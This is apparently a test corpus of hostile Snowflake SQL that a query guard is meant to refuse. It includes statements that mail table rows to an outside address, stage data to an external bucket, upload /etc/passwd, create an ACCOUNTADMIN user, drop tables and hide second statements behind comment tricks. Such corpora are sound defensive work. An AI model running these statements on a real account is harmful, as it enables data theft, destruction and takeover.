-- Hostile SQL corpus for Snowflake, written from the Snowflake documentation (no live engine here).
-- Every case must be refused by the SQL guard. Names: table mc_canary, sequence mc_canary_seq,
-- stage mc_stage, warehouse mc_wh, role/user mc_evil. Nothing here should ever be sent to a real
-- account without the guard.

-- case: escaped-ident: quoted upper-case SYSTEM$WAIT
SELECT "SYSTEM$WAIT"(5)

-- case: escaped-ident: lower-case system$cancel_all_queries on the current session
SELECT system$cancel_all_queries(CURRENT_SESSION())

-- case: escaped-ident: TABLE('…') table literal names a table in a string, around any table policy
SELECT * FROM TABLE('mc_canary')

-- case: escaped-ident: TABLE($$…$$) table literal with a dollar-quoted, fully qualified name
SELECT * FROM TABLE($$SNOWFLAKE.ACCOUNT_USAGE.QUERY_HISTORY$$)

-- case: escaped-ident: IDENTIFIER('…') in FROM
SELECT * FROM IDENTIFIER('mc_canary')

-- case: sql-text: EXECUTE IMMEDIATE with a DELETE in a string
EXECUTE IMMEDIATE 'DELETE FROM mc_canary'

-- case: sql-text: EXECUTE IMMEDIATE with an anonymous scripting block
EXECUTE IMMEDIATE $$ BEGIN DELETE FROM mc_canary; RETURN 'done'; END; $$

-- case: sql-text: RESULT_SCAN reads the results of an earlier query
SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID(-2)))

-- case: new-connection: CREATE STAGE over an external bucket
CREATE STAGE mc_evil URL = 's3://mc-evil-bucket/' CREDENTIALS = (AWS_KEY_ID = 'mc' AWS_SECRET_KEY = 'pwned')

-- case: new-connection: SYSTEM$SEND_EMAIL sends data out of the account
SELECT SYSTEM$SEND_EMAIL('mc_email_int', 'mc_evil@example.com', 'rows', (SELECT LISTAGG(note, ',') FROM mc_canary))

-- case: side-effect: SYSTEM$CANCEL_QUERY on another query
SELECT SYSTEM$CANCEL_QUERY('01b2c3d4-0000-0000-0000-000000000001')

-- case: side-effect: SYSTEM$ABORT_SESSION
SELECT SYSTEM$ABORT_SESSION(1234567890)

-- case: side-effect: sequence NEXTVAL as a column reference
SELECT mc_canary_seq.NEXTVAL

-- case: side-effect: ALTER SESSION removes the statement timeout
ALTER SESSION SET STATEMENT_TIMEOUT_IN_SECONDS = 0

-- case: side-effect: USE ROLE switches to an administrator role
USE ROLE ACCOUNTADMIN

-- case: side-effect: resize the warehouse (cost)
ALTER WAREHOUSE mc_wh SET WAREHOUSE_SIZE = 'X6LARGE'

-- case: server-files: query files on a named stage
SELECT $1, $2 FROM @mc_stage/secret.csv

-- case: server-files: query the user stage
SELECT $1 FROM @~/mc/secret.csv (FILE_FORMAT => 'mc_csv')

-- case: server-files: query a table stage
SELECT $1 FROM @%mc_canary

-- case: server-files: DIRECTORY() lists the files on a stage
SELECT relative_path, file_url FROM DIRECTORY(@mc_stage)

-- case: server-files: GET_PRESIGNED_URL hands out a download link
SELECT GET_PRESIGNED_URL(@mc_stage, 'secret.csv', 3600)

-- case: server-files: BUILD_SCOPED_FILE_URL
SELECT BUILD_SCOPED_FILE_URL(@mc_stage, 'secret.csv')

-- case: server-files: INFER_SCHEMA reads staged files
SELECT * FROM TABLE(INFER_SCHEMA(LOCATION => '@mc_stage/', FILE_FORMAT => 'mc_csv'))

-- case: server-files: TO_FILE builds a FILE value from a staged path
SELECT FL_GET_SIZE(TO_FILE('@mc_stage/secret.csv'))

-- case: server-files: LIST a stage
LIST @mc_stage

-- case: server-files: GET downloads staged files
GET @mc_stage/secret.csv file:///tmp/mc_canary/

-- case: server-files: PUT uploads a local file
PUT file:///etc/passwd @~/mc/

-- case: server-files: COPY INTO a stage unloads a table
COPY INTO @mc_stage/unload/ FROM mc_canary

-- case: server-files: COPY INTO a table loads staged files
COPY INTO mc_canary FROM @mc_stage/in/ FILE_FORMAT = (TYPE = CSV)

-- case: write: DELETE
DELETE FROM mc_canary

-- case: write: MERGE
MERGE INTO mc_canary c USING (SELECT 1 AS id) s ON c.id = s.id WHEN MATCHED THEN UPDATE SET note = 'pwned'

-- case: write: CREATE OR REPLACE TABLE … CLONE over the canary
CREATE OR REPLACE TABLE mc_canary CLONE mc_orders

-- case: write: CREATE USER mc_evil
CREATE USER mc_evil PASSWORD = 'Pwned-12345' DEFAULT_ROLE = ACCOUNTADMIN

-- case: write: GRANT ROLE
GRANT ROLE ACCOUNTADMIN TO USER mc_evil

-- case: write: CALL a procedure
CALL mc_evil_proc()

-- case: write: DROP TABLE
DROP TABLE mc_canary

-- case: multi-statement: SELECT then DELETE
SELECT 1; DELETE FROM mc_canary

-- case: multi-statement: dollar-quoted semicolon then TRUNCATE
SELECT $$;$$; TRUNCATE TABLE mc_canary

-- case: multi-statement: `//` comment hides a fake terminator
SELECT 1 // ;
; DROP TABLE mc_canary

-- case: lock: SELECT … FOR UPDATE
SELECT * FROM mc_canary FOR UPDATE

-- case: parser-differential: backslash-escaped quote keeps the string open
SELECT 'it\'s', SYSTEM$WAIT(5)

-- case: parser-differential: `//` line comment ends at the newline
SELECT 1 // comment
, SYSTEM$WAIT(5)

-- case: resource: SYSTEM$WAIT
SELECT SYSTEM$WAIT(60)

-- case: resource: GENERATOR with a trillion rows
SELECT COUNT(*) FROM TABLE(GENERATOR(ROWCOUNT => 1000000000000))

-- case: resource: GENERATOR bounded by time only
SELECT SEQ8() FROM TABLE(GENERATOR(TIMELIMIT => 3600))

-- case: catalog-secrets: everyone's query text from ACCOUNT_USAGE
SELECT user_name, query_text FROM SNOWFLAKE.ACCOUNT_USAGE.QUERY_HISTORY

-- case: catalog-secrets: QUERY_HISTORY table function
SELECT query_text FROM TABLE(INFORMATION_SCHEMA.QUERY_HISTORY())

-- case: catalog-secrets: login history
SELECT user_name, client_ip FROM SNOWFLAKE.ACCOUNT_USAGE.LOGIN_HISTORY
